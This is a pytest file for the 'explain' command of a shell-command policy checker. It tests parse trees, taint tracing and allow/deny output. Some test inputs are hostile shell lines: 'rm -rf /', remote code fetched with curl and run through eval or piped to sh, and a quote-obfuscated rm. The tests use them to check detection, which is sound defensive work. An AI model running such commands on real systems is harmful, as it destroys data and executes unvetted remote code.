"""`policyengine explain`: the tree, the effects and the findings, for people and as JSON."""

from __future__ import annotations

import json

import pytest

from policyengine.cli.explain import tree_of
from tests.cli.process import run


def _outline(text: str) -> list[str]:
    return [f"{'.' * branch.depth}{branch.node}" for branch in tree_of(text)[0]]


def test_the_tree_names_every_node_in_order() -> None:
    assert _outline('x=$(a "$b" | c) && { d > f; }') == [
        "Script",
        ".AndOr",
        "..SimpleCommand",
        "...Assignment",
        "....Word",
        ".....CommandSubstitution",
        "......Script",
        ".......Pipeline",
        "........SimpleCommand",
        ".........Word",
        ".........Word",
        "..........DoubleQuoted",
        "...........Parameter",
        "........SimpleCommand",
        ".........Word",
        "..Group",
        "...SimpleCommand",
        "....Word",
        "....Redirect",
        ".....Word",
    ]


def test_a_node_around_further_commands_leaves_its_text_to_them() -> None:
    assert [branch.text for branch in tree_of("echo $(id)")[0] if branch.text] == ["echo", "id", "id", "id"]


def test_deep_text_is_no_recursion() -> None:
    branches, fault = tree_of("$(" * 900 + ")" * 900)
    assert fault == ""
    assert len(branches) > 900


def test_text_that_is_not_valid_is_explained_too() -> None:
    ended = run("explain", "echo 'x")
    assert (ended.status, ended.err) == (0, "")
    assert "not valid: " in ended.out
    assert json.loads(run("explain", "--json", "echo 'x").out)["fault"]


@pytest.mark.parametrize("part", ["tree", "effects", "findings", "2:4", "file.delete", "file.delete-root"])
def test_a_person_sees_every_part_with_its_place(part: str) -> None:
    assert part in run("explain", "ls\nrm -rf /").out


def test_lines_are_numbered_where_there_are_several() -> None:
    assert run("explain", "ls\nrm -rf /").out.splitlines()[:3] == ["deny", "  1 ls", "  2 rm -rf /"]


def test_json_has_the_decision_and_the_tree() -> None:
    answer = json.loads(run("explain", "--json", "echo $(id)").out)
    assert answer["outcome"] == "allow"
    assert answer["tree"][0] == {"depth": 0, "node": "Script", "span": [0, 10], "text": ""}
    assert answer["fault"] is None


FOLLOWED = 'x=$(curl -s https://x.test/i); eval "$x"'


@pytest.mark.parametrize(
    ("command", "row"),
    [
        (FOLLOWED, "1:3 what is captured is text that is not known, fetched"),
        (FOLLOWED, "x holds text that is not known, fetched"),
        (FOLLOWED, '1:37 "$x" becomes text that is not known, fetched (x was set before)'),
        ("f=a; rm $f", "1:9 $f becomes a (f was set before)"),
        ("rm $f", "1:4 $f becomes text that is not known (f is not set here)"),
        ("echo ls > s; sh s", "s holds 'ls\\n'"),
        ('r""m a', '1:1 r""m becomes rm'),
        ("f() { rm a; }; f", "1:16 f is a function"),
        ("./frob", "1:1 ./frob is not described"),
        ("curl -s x.test | sh", "1:1 what goes on is text that is not known, fetched"),
        ("git status", "1:1 git is a described program"),
    ],
)
def test_the_reasoning_says_what_became_of_words_and_why(command: str, row: str) -> None:
    rows = [
        line.strip()
        for line in run("explain", command).out.split("\nreasoning\n")[1].split("\neffects\n")[0].splitlines()
    ]
    assert any(line.endswith(row) for line in rows), rows


def test_json_has_the_reasoning() -> None:
    answer = json.loads(run("explain", "--json", FOLLOWED).out)
    assert {
        "step": "word",
        "subject": '"$x"',
        "values": [None],
        "taint": ["fetched"],
        "because": ["x was set before"],
        "span": [36, 40],
    } in answer["reasoning"]


def test_what_a_loop_repeats_is_said_once_and_what_has_no_end_ends() -> None:
    rows = run(
        "explain", "for i in " + "a " * 200 + "; do for j in " + "b " * 200 + "; do echo $i$j; done; done"
    ).out.splitlines()
    assert len(rows) < 3000
